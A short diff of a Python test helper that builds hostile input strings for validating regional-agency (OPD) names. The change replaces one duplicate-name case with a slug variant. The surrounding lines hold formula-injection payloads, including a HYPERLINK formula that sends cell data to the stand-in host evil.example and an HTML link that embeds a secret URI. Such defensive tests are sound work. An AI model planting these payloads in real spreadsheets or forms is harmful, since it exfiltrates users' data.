@@ -31,7 +31,9 @@ def opd_payloads(secret_uri: str) -> list[str]:
         f'<link rel="attachment" href="{secret_uri}">Dinas Z',
         '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
         "Sekretariat Daerah",
-        "SEKRETARIAT DAERAH",
+        # the same folder slug as the one above, another OPD (a name differing only in
+        # letter case or spaces is the same OPD: validation reads it as one)
+        "Sekretariat_Daerah",
         "-",
         "+1+1 Dinas\x0bVT",
         "@SUM(1)\x00Badan",
